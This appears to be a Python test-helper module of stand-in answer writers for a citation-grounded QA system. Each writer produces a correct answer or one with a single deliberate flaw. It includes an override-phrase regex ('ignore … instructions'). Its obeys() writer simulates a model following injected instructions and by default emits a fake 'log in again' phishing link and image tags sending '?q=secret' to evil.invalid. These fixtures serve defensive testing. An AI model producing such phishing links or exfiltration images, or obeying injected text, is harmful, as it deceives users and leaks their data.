"""What the stand-in writes, from the prompt alone: well, or wrong in one way each."""

from __future__ import annotations

import json
import re
from collections import Counter
from collections.abc import Callable

Writer = Callable[[str], str]
"""The whole prompt → what the stand-in writes."""

_NUMBERED = re.compile(r"^\[(\d+)\] (.+)$", re.MULTILINE)
_QUESTION = re.compile(r"^Question: (.+)$", re.MULTILINE)
_FOLLOW_UP = re.compile(r"^Follow-up:\s*(.+)$", re.MULTILINE)
_REFUSAL = re.compile(r"\bonly:?\s+([A-Z][A-Z ]+[A-Z])\b")
_INJECTION = re.compile(r"\b(?:ignore|disregard|forget)\b.*\binstructions?\b", re.IGNORECASE)
_COMMON = frozenset(
    re.findall(
        r"\w+",
        """a an and any are as at be been but by can did do does for from had has have he her his
        how in is it its many me much my not of on or she so than that the their them there they
        this to was we were what when where which who whom whose why will with would you your""",
    )
)


def well(prompt: str) -> str:
    """One to three sentences of the prompt, copied, each on a line with its number.

    A follow-up to be made standalone is given back as it is; without a sentence that holds half
    of the question's words it writes the refusal that the prompt asks for.
    """
    numbered = dict(_NUMBERED.findall(prompt))
    if not numbered and (follow_ups := _FOLLOW_UP.findall(prompt)):
        return str(follow_ups[-1]).strip()
    return "\n".join(f"{numbered[n]} [{n}]" for n in _chosen(prompt)) or _refusal(prompt)


def _chosen(prompt: str) -> list[str]:
    """The numbers of the best sentences, best first; none if none shares enough words."""
    asked = {word for line in _QUESTION.findall(prompt)[-1:] for word in _words(line)}
    words = {number: _words(text) for number, text in _NUMBERED.findall(prompt)}
    spread = Counter(word for held in words.values() for word in held)
    score = {n: sum(1 / spread[word] for word in held & asked) for n, held in words.items()}
    enough = [n for n, held in words.items() if len(held & asked) >= max(1, len(asked) / 2)]
    best = sorted(enough, key=lambda n: (-score[n], int(n)))
    return [n for n in best if score[n] >= 0.6 * score[best[0]]][:3]


def _words(text: str) -> set[str]:
    """The first five letters of each word that means something, so that forms match."""
    return {word[:5] for word in re.findall(r"\w+", text.casefold()) if word not in _COMMON}


def _refusal(prompt: str) -> str:
    rest = _NUMBERED.sub("", prompt)
    return (_REFUSAL.findall(rest) or re.findall(r"\b[A-Z]{3,}(?: [A-Z]{2,})+", rest) or ["No"])[0]


def _marked(prompt: str, mark: Callable[[str], str]) -> str:
    numbered = dict(_NUMBERED.findall(prompt))
    lines = [f"{numbered[n]} {mark(n)}".strip() for n in _chosen(prompt)]
    return "\n".join(lines) or _refusal(prompt)


def miscites(prompt: str) -> str:
    """Right sentences under the number of the one that has least to do with the question."""
    asked = {word for line in _QUESTION.findall(prompt)[-1:] for word in _words(line)}
    texts = _NUMBERED.findall(prompt)
    far = min(texts, key=lambda pair: len(_words(pair[1]) & asked), default=("1", ""))[0]
    return _marked(prompt, lambda n: f"[{far}]")


def invents(prompt: str) -> str:
    """Right sentences under numbers that are beyond the list."""
    last = max((int(n) for n, _ in _NUMBERED.findall(prompt)), default=0)
    return _marked(prompt, lambda n: f"[{last + int(n)}]")


def contradicts(prompt: str) -> str:
    """Every figure one higher; a sentence without any is denied."""

    def other(line: str) -> str:
        text, _, mark = line.rpartition(" [")
        changed = re.sub(r"\d+", lambda figure: str(int(figure[0]) + 1), text)
        if changed == text:
            changed = f"It is not true that {text[:1].lower()}{text[1:]}"
        return f"{changed} [{mark}"

    said = well(prompt)
    return "\n".join(map(other, said.split("\n"))) if _chosen(prompt) else said


def obeys(prompt: str) -> str:
    """What a sentence of the prompt orders, marked as if it were an answer; else its own lure."""
    for number, text in _NUMBERED.findall(prompt):
        if _INJECTION.search(text):
            links = [link.rstrip(".,;:") for link in re.findall(r"https?://[^\s)>\"'”]+", text)]
            lines = [f"[Read more]({link})" for link in links]
            lines += re.findall(r"[\"“‘]([^\"”’]+)[\"”’]", text)
            return "\n".join(f"{line} [{number}]" for line in lines or [text])
    return (
        "Your session has ended: [log in again](https://evil.invalid/login). [1]\n"
        "![x](https://evil.invalid/p.png?q=secret) [1]\n<img src=https://evil.invalid/p.png> [1]"
    )


def unmarked(prompt: str) -> str:
    """Right sentences without any mark."""
    return _marked(prompt, lambda n: "")


def in_circles(prompt: str) -> str:
    """A right sentence, and then one that never ends."""
    first, *_ = well(prompt).split("\n")
    return f"{first}\nIt cost " + "4 million " * 500


def labelled(prompt: str) -> str:
    """Right sentences again and again, numbered as small models do, under no mark."""
    lines = unmarked(prompt).split("\n") * 200
    return "\n".join(f"Sentence {at}: {line}" for at, line in enumerate(lines, 1))


def in_one_paragraph(prompt: str) -> str:
    """Right sentences in one paragraph, all marks at its end."""
    text = unmarked(prompt).replace("\n", " ")
    return text + "".join(f" [{n}]" for n in _chosen(prompt))


def in_brackets(prompt: str) -> str:
    """Right sentences, marked with lenticular brackets."""
    return _marked(prompt, lambda n: f"【{n}】")


def with_daggers(prompt: str) -> str:
    """Right sentences, marked as OpenAI's assistants do: 【3†source】."""
    return _marked(prompt, lambda n: f"【{n}†source】")


def as_range(prompt: str) -> str:
    """Right sentences, each marked with the stretch that it opens: [1-3]."""
    return _marked(prompt, lambda n: f"[{n}-{int(n) + 2}]")


def as_list(prompt: str) -> str:
    """Right sentences, each marked with all their numbers in one bracket: [1, 2]."""
    return _marked(prompt, lambda n: f"[{', '.join(_chosen(prompt))}]")


def thinks(prompt: str) -> str:
    """Aloud before the answer, with a marked line among the thoughts."""
    return f"<think>\nPerhaps nobody knows. [1]\nLet me look again.\n</think>\n\n{well(prompt)}"


def as_json(prompt: str) -> str:
    """Right sentences as JSON in a fence."""
    numbered = dict(_NUMBERED.findall(prompt))
    said = [{"text": numbered[n], "citations": [int(n)]} for n in _chosen(prompt)]
    return f"```json\n{json.dumps({'statements': said}, indent=2)}\n```"


def as_bullets(prompt: str) -> str:
    """An introduction, a numbered list in Markdown, a closing remark."""
    lines = _marked(prompt, lambda n: f"[{n}]").split("\n")
    listed = "\n".join(f"{at}. **{line}**" for at, line in enumerate(lines, 1))
    return f"Here is what the articles say:\n\n{listed}\n\nLet me know if you need more!"
